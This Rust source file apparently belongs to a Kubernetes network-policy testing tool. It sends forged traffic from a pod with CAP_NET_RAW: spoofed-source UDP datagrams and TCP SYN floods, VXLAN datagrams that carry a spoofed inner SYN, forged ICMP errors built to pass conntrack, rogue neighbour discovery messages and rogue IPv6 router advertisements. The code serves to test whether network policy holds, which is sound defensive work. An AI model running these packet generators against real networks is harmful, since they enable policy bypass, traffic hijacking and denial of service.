//! Packets with a source address that is not the sender's: what an attacker pod with CAP_NET_RAW
//! (containerd grants it by default) can send. `IP_TRANSPARENT` / `IPV6_TRANSPARENT` (which need
//! CAP_NET_RAW, like a raw socket) let a socket bind to any address; the kernel then sends ordinary
//! UDP datagrams and TCP SYNs from it. On the wire they are what a raw socket would forge.

use crate::probe::Protocol;
use socket2::{Domain, SockAddr, Socket, Type};
use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4};
use std::time::Duration;

/// Sends `count` UDP datagrams, or `count` TCP SYNs (one connection attempt each, abandoned before
/// any retransmission), from `from` (port 0: any) to `dst`. Returns how many were handed to the kernel.
pub fn send_forged(
    from: SocketAddr,
    dst: SocketAddr,
    proto: Protocol,
    count: u32,
) -> io::Result<u32> {
    let src = from.ip();
    if src.is_ipv4() != dst.is_ipv4() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!("source {src} and destination {dst} are of different families"),
        ));
    }
    let socket = |ty: Type| -> io::Result<Socket> {
        let domain = if src.is_ipv4() {
            Domain::IPV4
        } else {
            Domain::IPV6
        };
        let s = Socket::new(domain, ty, None)?;
        if src.is_ipv4() {
            s.set_ip_transparent_v4(true)?;
        } else {
            s.set_ip_transparent_v6(true)?;
        }
        s.bind(&SockAddr::from(from))?;
        Ok(s)
    };
    let to = SockAddr::from(dst);
    let mut sent = 0;
    match proto {
        Protocol::Udp => {
            let s = socket(Type::DGRAM)?;
            for i in 0..count {
                s.send_to(format!("forged {i}\n").as_bytes(), &to)?;
                sent += 1;
            }
        }
        Protocol::Tcp => {
            // Each SYN leaves inside connect(); a socket is kept a while only so that no
            // retransmission is due before it closes, and at most PENDING at once (a flood of
            // 100k attempts must not need 100k descriptors).
            const PENDING: usize = 256;
            let mut pending = std::collections::VecDeque::new();
            for _ in 0..count {
                if pending.len() == PENDING {
                    pending.pop_front();
                }
                let s = socket(Type::STREAM)?;
                s.set_nonblocking(true)?;
                match s.connect(&to) {
                    Ok(()) => {}
                    Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
                    Err(e) => return Err(e),
                }
                pending.push_back(s);
                sent += 1;
            }
            // Long enough for every SYN to leave, well before the first retransmission (1 s).
            std::thread::sleep(Duration::from_millis(100));
            drop(pending);
        }
    }
    Ok(sent)
}

/// A VXLAN datagram (RFC 7348) for `vni` whose inner Ethernet frame, to `dst_mac`, holds a TCP SYN
/// from `src` to `dst`: what any pod can send to a node's overlay port with a plain UDP socket (no
/// capability needed). Decapsulated by that node, the SYN would enter through its overlay device
/// carrying `src`, whoever sent it.
pub fn vxlan_syn(vni: u32, dst_mac: [u8; 6], src: Ipv4Addr, dst: SocketAddrV4) -> Vec<u8> {
    let mut tcp = Vec::with_capacity(20);
    tcp.extend_from_slice(&40_000u16.to_be_bytes()); // source port
    tcp.extend_from_slice(&dst.port().to_be_bytes());
    tcp.extend_from_slice(&1u32.to_be_bytes()); // sequence
    tcp.extend_from_slice(&0u32.to_be_bytes()); // acknowledgment
    tcp.extend_from_slice(&[5 << 4, 0x02]); // 20-byte header, SYN
    tcp.extend_from_slice(&65_535u16.to_be_bytes()); // window
    tcp.extend_from_slice(&[0, 0, 0, 0]); // checksum, urgent pointer
    let mut pseudo = Vec::with_capacity(12 + tcp.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.ip().octets());
    pseudo.extend_from_slice(&[0, 6]);
    pseudo.extend_from_slice(&(tcp.len() as u16).to_be_bytes());
    pseudo.extend_from_slice(&tcp);
    let sum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut ip = Vec::with_capacity(20);
    ip.extend_from_slice(&[0x45, 0]);
    ip.extend_from_slice(&((20 + tcp.len()) as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 1, 0, 0, 64, 6, 0, 0]); // id, no fragment, TTL 64, TCP, checksum
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.ip().octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let mut out = Vec::with_capacity(8 + 14 + ip.len() + tcp.len());
    out.extend_from_slice(&[0x08, 0, 0, 0]); // flags: VNI present
    out.extend_from_slice(&(vni << 8).to_be_bytes());
    out.extend_from_slice(&dst_mac);
    out.extend_from_slice(&[0x0e, 0x70, 0, 0, 0, 1]); // any source MAC
    out.extend_from_slice(&[0x08, 0x00]); // IPv4
    out.extend_from_slice(&ip);
    out.extend_from_slice(&tcp);
    out
}

/// Sends `payload` `count` times from an ordinary UDP socket; returns how many left.
pub fn send_datagrams(to: SocketAddr, payload: &[u8], count: u32) -> io::Result<u32> {
    let domain = if to.is_ipv4() {
        Domain::IPV4
    } else {
        Domain::IPV6
    };
    let s = Socket::new(domain, Type::DGRAM, None)?;
    let to = SockAddr::from(to);
    for _ in 0..count {
        s.send_to(payload, &to)?;
    }
    Ok(count)
}

/// Sends `count` ICMP "port unreachable" errors (ICMPv6 for IPv6) to `to` from a raw socket
/// (CAP_NET_RAW), each quoting a UDP datagram from `quoted_src` to `quoted_dst` and carrying more
/// bytes after the quote: conntrack marks such an error related to the connection it quotes,
/// whoever sends it. Returns how many left.
pub fn send_icmp_errors(
    to: IpAddr,
    quoted_src: SocketAddr,
    quoted_dst: SocketAddr,
    count: u32,
) -> io::Result<u32> {
    const EXTRA: &[u8] = b"bytes no policy let through";
    let mut quote = Vec::new();
    let (domain, proto, mut msg) = match (quoted_src.ip(), quoted_dst.ip(), to) {
        (IpAddr::V4(s), IpAddr::V4(d), IpAddr::V4(_)) => {
            quote.extend_from_slice(&[0x45, 0]);
            quote.extend_from_slice(&((20 + 8 + EXTRA.len()) as u16).to_be_bytes());
            quote.extend_from_slice(&[0, 1, 0, 0, 64, 17, 0, 0]);
            quote.extend_from_slice(&s.octets());
            quote.extend_from_slice(&d.octets());
            let sum = checksum(&quote);
            quote[10..12].copy_from_slice(&sum.to_be_bytes());
            (
                Domain::IPV4,
                socket2::Protocol::ICMPV4,
                vec![3, 3, 0, 0, 0, 0, 0, 0],
            )
        }
        (IpAddr::V6(s), IpAddr::V6(d), IpAddr::V6(_)) => {
            quote.extend_from_slice(&[0x60, 0, 0, 0]);
            quote.extend_from_slice(&((8 + EXTRA.len()) as u16).to_be_bytes());
            quote.extend_from_slice(&[17, 64]);
            quote.extend_from_slice(&s.octets());
            quote.extend_from_slice(&d.octets());
            // The kernel computes an ICMPv6 raw socket's checksum.
            (
                Domain::IPV6,
                socket2::Protocol::ICMPV6,
                vec![1, 4, 0, 0, 0, 0, 0, 0],
            )
        }
        _ => {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                format!("{quoted_src}, {quoted_dst} and {to} are not of one family"),
            ))
        }
    };
    quote.extend_from_slice(&quoted_src.port().to_be_bytes());
    quote.extend_from_slice(&quoted_dst.port().to_be_bytes());
    quote.extend_from_slice(&((8 + EXTRA.len()) as u16).to_be_bytes());
    quote.extend_from_slice(&[0, 0]);
    quote.extend_from_slice(EXTRA);
    msg.extend_from_slice(&quote);
    if domain == Domain::IPV4 {
        let sum = checksum(&msg);
        msg[2..4].copy_from_slice(&sum.to_be_bytes());
    }
    let s = Socket::new(domain, Type::RAW, Some(proto))?;
    let to = SockAddr::from(SocketAddr::new(to, 0));
    for _ in 0..count {
        s.send_to(&msg, &to)?;
    }
    Ok(count)
}

/// Sends `count` ICMPv6 messages of neighbour discovery type `icmp_type` (133-137) to `to` from a
/// raw socket (CAP_NET_RAW) with hop limit 255, as neighbour discovery must be sent, each
/// carrying `to` as its target and bytes after it: a message no node should forward. Returns
/// how many left.
pub fn send_neighbour_discovery(to: Ipv6Addr, icmp_type: u8, count: u32) -> io::Result<u32> {
    if !(133..=137).contains(&icmp_type) {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!("ICMPv6 type {icmp_type} is not neighbour discovery (133-137)"),
        ));
    }
    let mut msg = vec![icmp_type, 0, 0, 0, 0, 0, 0, 0];
    msg.extend_from_slice(&to.octets());
    msg.extend_from_slice(b"bytes no policy let through");
    let s = Socket::new(Domain::IPV6, Type::RAW, Some(socket2::Protocol::ICMPV6))?;
    s.set_unicast_hops_v6(255)?;
    let to = SockAddr::from(SocketAddr::new(IpAddr::V6(to), 0));
    // The kernel computes an ICMPv6 raw socket's checksum.
    for _ in 0..count {
        s.send_to(&msg, &to)?;
    }
    Ok(count)
}

/// Sends `count` ICMPv6 router advertisements (router lifetime 1800 s: "use me as your default
/// router") to `to` on the interface with index `scope`, from a raw socket (CAP_NET_RAW) with hop
/// limit 255 and the interface's link-local source, as a router sends them. Returns how many left.
pub fn send_router_advertisements(to: Ipv6Addr, scope: u32, count: u32) -> io::Result<u32> {
    // type, code, checksum (the kernel's), current hop limit, flags, router lifetime,
    // reachable time, retransmission timer.
    let mut msg = vec![134, 0, 0, 0, 64, 0];
    msg.extend_from_slice(&1800u16.to_be_bytes());
    msg.extend_from_slice(&[0; 8]);
    let s = Socket::new(Domain::IPV6, Type::RAW, Some(socket2::Protocol::ICMPV6))?;
    s.set_unicast_hops_v6(255)?;
    s.set_multicast_hops_v6(255)?;
    let to = SockAddr::from(std::net::SocketAddrV6::new(to, 0, 0, scope));
    for _ in 0..count {
        s.send_to(&msg, &to)?;
    }
    Ok(count)
}

/// The Internet checksum (RFC 1071) of `data`.
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_vxlan_syn_carries_valid_inner_checksums() {
        let d = vxlan_syn(
            0x50_41_4c,
            [0x0e, 0x70, 172, 31, 0, 2],
            Ipv4Addr::new(10, 244, 1, 2),
            SocketAddrV4::new(Ipv4Addr::new(10, 244, 2, 2), 80),
        );
        assert_eq!(&d[..8], &[0x08, 0, 0, 0, 0x50, 0x41, 0x4c, 0]);
        let ip = &d[22..42];
        // A header with its checksum in place sums to 0xffff (checksum 0 of it).
        let fold = |data: &[u8]| {
            let mut s: u32 = data
                .chunks(2)
                .map(|c| u32::from(u16::from_be_bytes([c[0], c[1]])))
                .sum();
            while s > 0xffff {
                s = (s & 0xffff) + (s >> 16);
            }
            s
        };
        assert_eq!(fold(ip), 0xffff);
        let tcp = &d[42..];
        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(&ip[12..20]);
        pseudo.extend_from_slice(&[0, 6, 0, tcp.len() as u8]);
        pseudo.extend_from_slice(tcp);
        assert_eq!(fold(&pseudo), 0xffff);
        assert_eq!(tcp[13], 0x02, "a SYN");
    }
}
